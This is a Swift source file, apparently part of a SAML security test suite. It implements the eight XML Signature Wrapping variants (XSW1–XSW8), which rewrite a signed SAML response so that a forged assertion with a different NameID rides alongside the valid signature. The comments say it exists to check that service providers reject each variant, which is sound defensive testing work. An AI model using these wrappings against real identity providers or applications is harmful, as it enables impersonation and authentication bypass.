import Foundation

/// The XML Signature Wrapping shapes of attacks.md §1 (Somorovsky et al. XSW1–XSW8, as SAML Raider builds them),
/// applied to a signed response, so that a service provider can be shown each one and must refuse it.
///
/// The edits are textual on purpose: they reproduce what an attacker does to captured bytes, and none of them
/// recomputes a signature. The "evil" content is the same document with a different NameID (``AttackEdit/evilNameID``).
public enum SignatureWrapping: String, Sendable, Hashable, CaseIterable, Codable {
    /// Evil root Response (new ID); the signed Response, its Signature removed, copied inside the Signature.
    case xsw1
    /// As XSW1, the signed copy placed before the Signature.
    case xsw2
    /// Unsigned evil Assertion (new ID) before the signed one.
    case xsw3
    /// The signed Assertion moved inside an evil one.
    case xsw4
    /// The evil Assertion keeps the Signature; an untouched copy is appended.
    case xsw5
    /// As XSW5, the untouched copy inside the evil Assertion's Signature.
    case xsw6
    /// An evil copy with the same ID inside `samlp:Extensions` before the signed Assertion.
    case xsw7
    /// Evil content in place; the untouched original (same ID) inside `ds:Object` in its Signature.
    case xsw8

    /// XSW1 and XSW2 wrap a signed Response; the others a signed Assertion.
    public var needsSignedResponse: Bool { self == .xsw1 || self == .xsw2 }

    /// The wrapped document. `signed` is the serialised Response, signed the way ``needsSignedResponse`` says;
    /// `evilNameID` replaces the NameID in the attacker's copy.
    public func apply(to signed: String, evilNameID: String = AttackEdit.defaultEvilNameID) throws(AttackEdit.Failure) -> String {
        let evil = { (s: String) throws(AttackEdit.Failure) in try AttackEdit.replaceNameID(s, with: evilNameID) }
        if needsSignedResponse {
            let responseID = try AttackEdit.firstID(signed)
            let withoutSignature = try AttackEdit.removeSignature(signed)
            let evilRoot = try evil(try AttackEdit.replace(signed, "ID=\"\(responseID)\"", "ID=\"_evil_response\"", once: true))
            return self == .xsw1
                ? try AttackEdit.replace(evilRoot, "</KeyInfo></Signature>", "</KeyInfo>\(withoutSignature)</Signature>")
                : try AttackEdit.replace(evilRoot, "<Signature xmlns=", "\(withoutSignature)<Signature xmlns=")
        }
        let range = try AttackEdit.element(signed, "Assertion")
        let assertion = String(signed[range])
        let assertionID = try AttackEdit.firstID(assertion)
        let untouched = try AttackEdit.removeSignature(assertion)
        let replacement: String
        switch self {
        case .xsw1, .xsw2:
            replacement = assertion
        case .xsw3, .xsw4:
            let evilAssertion = try evil(try AttackEdit.replace(untouched, "ID=\"\(assertionID)\"", "ID=\"_evil_assertion\""))
            replacement = self == .xsw3 ? evilAssertion + assertion
                : try AttackEdit.replace(evilAssertion, "</Assertion>", assertion + "</Assertion>")
        case .xsw5, .xsw6:
            let evilKeepsSignature = try evil(try AttackEdit.replace(assertion, "ID=\"\(assertionID)\"", "ID=\"_evil_assertion\""))
            replacement = self == .xsw5 ? evilKeepsSignature + untouched
                : try AttackEdit.replace(evilKeepsSignature, "</KeyInfo></Signature>", "</KeyInfo>\(untouched)</Signature>")
        case .xsw7:
            replacement = "<samlp:Extensions>\(try evil(untouched))</samlp:Extensions>" + assertion
        case .xsw8:
            replacement = try evil(try AttackEdit.replace(assertion, "</KeyInfo></Signature>",
                                                          "</KeyInfo><Object>\(untouched)</Object></Signature>"))
        }
        var result = signed
        result.replaceSubrange(range, with: replacement)
        return result
    }
}
